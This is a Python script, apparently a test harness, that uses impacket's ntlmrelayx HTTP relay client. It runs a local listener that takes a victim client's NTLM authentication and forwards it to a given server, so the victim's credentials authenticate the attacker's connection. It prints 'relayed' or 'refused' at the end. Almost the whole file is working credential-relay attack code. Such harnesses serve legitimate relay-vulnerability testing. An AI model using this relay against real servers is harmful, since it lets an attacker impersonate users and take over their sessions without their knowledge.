# A relay between a victim and a server, by impacket's client: what the victim sends to this
# machine's port goes on to the server in the victim's name. Arguments: URL of the server, a PEM
# file with certificate and key or "-" for clear text, the victim's command, in which URL stands
# for the address of the relay. Prints "relayed" or "refused" last.
import base64
import http.server
import ssl
import subprocess
import sys
import threading
from types import SimpleNamespace
from urllib.parse import urlparse

from impacket.examples.ntlmrelayx.clients import httprelayclient
from impacket.nt_errors import STATUS_SUCCESS
from impacket.ntlm import NTLMAuthChallenge

server = urlparse(sys.argv[1])
certificate = sys.argv[2]
outcome = "refused"


class Challenge(NTLMAuthChallenge):
    """Keeps the octets: what getData makes of them is shorter, and curl does not take it."""

    def fromString(self, data):
        self.octets = data
        NTLMAuthChallenge.fromString(self, data)


httprelayclient.NTLMAuthChallenge = Challenge


class Relay(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self, status, token=None):
        self.send_response(status)
        if status == 401:
            self.send_header("WWW-Authenticate", "NTLM" + (" " + token if token else ""))
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_GET(self):
        global outcome
        words = self.headers.get("Authorization", "").split(" ")
        if len(words) < 2:
            return self.answer(401)
        token = base64.b64decode(words[1])
        if token[8] == 1:
            kind = httprelayclient.HTTPRelayClient
            if server.scheme == "https":
                kind = httprelayclient.HTTPSRelayClient
            self.onward = kind(SimpleNamespace(isADCSAttack=False), server, server.port)
            self.onward.initConnection()
            challenge = self.onward.sendNegotiate(token)
            if not challenge:
                return self.answer(403)
            return self.answer(401, base64.b64encode(challenge.octets).decode("ascii"))
        _, status = self.onward.sendAuth(token)
        if status == STATUS_SUCCESS:
            outcome = "relayed"
        self.answer(200 if status == STATUS_SUCCESS else 403)

    def log_message(self, *parts):
        pass


relay = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Relay)
scheme = "http"
if certificate != "-":
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certificate)
    relay.socket = tls.wrap_socket(relay.socket, server_side=True)
    scheme = "https"
threading.Thread(target=relay.serve_forever, daemon=True).start()
address = "%s://localhost:%d/protected/x" % (scheme, relay.server_address[1])
subprocess.run([word.replace("URL", address) for word in sys.argv[3:]], timeout=40)
print(outcome)
